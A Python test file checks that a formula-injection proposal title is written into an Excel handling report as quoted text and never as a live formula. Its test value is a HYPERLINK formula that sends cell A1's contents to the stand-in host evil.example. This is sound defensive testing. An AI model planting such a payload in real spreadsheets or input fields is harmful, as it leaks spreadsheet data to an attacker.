"""Spreadsheet formula injection: a proposal titled `=HYPERLINK(…)` (and an answer starting
with `+`) comes out of the handling report `.xlsx` as text, never as a formula (issue 18)."""

from __future__ import annotations

import io
import zipfile

from openpyxl import load_workbook

from lianxin.modules.proposals import service
from lianxin.modules.proposals.inputs import ProposalDraftSchema
from lianxin.usecases import load_input
from tests.modules.proposals.test_service import BODY

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


def test_a_formula_in_a_title_is_text_in_the_report(clock, cast, tctx, office):
    proposal = service.create_draft(
        cast.actors[0],
        tctx,
        load_input(ProposalDraftSchema, {**BODY, "kind": "proposal", "title": EVIL}),
    )
    service.invite(cast.actors[0], tctx, proposal.id, cast.reps[1:10])
    for i in range(1, 10):
        service.sign(cast.actors[i], tctx, proposal.id)
    service.submit(cast.actors[0], tctx, proposal.id)
    service.accept(office, tctx, proposal.id, complexity="simple")
    rows = service.handling_report(office, tctx, 2026)
    data = service.report_xlsx(rows, 2026)
    sheet = load_workbook(io.BytesIO(data)).active
    titles = [row[2] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in titles] == [EVIL]
    assert titles[0].data_type == "s" and titles[0].quotePrefix
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
